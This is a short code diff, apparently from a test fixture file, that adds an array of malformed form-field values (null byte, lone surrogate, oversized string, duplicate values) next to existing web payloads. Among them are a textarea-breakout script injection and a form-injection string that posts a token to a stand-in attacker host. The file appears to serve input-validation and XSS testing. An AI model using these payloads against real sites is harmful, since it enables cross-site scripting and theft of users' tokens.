@@ -16,3 +16,13 @@ export const payloads = [
   '<form action="//evil.example/"><input name=token>',
   '&lt;script&gt;window.hit=1&lt;/script&gt;',
 ];
+
+/** What no form of ours would send in a field. */
+export const strange: readonly (string | string[])[] = [
+  '\0',
+  '\ud800',
+  '-1',
+  'x'.repeat(30_000),
+  ['a', 'a'],
+  `'"></textarea><script>window.hit=1</script>`,
+];
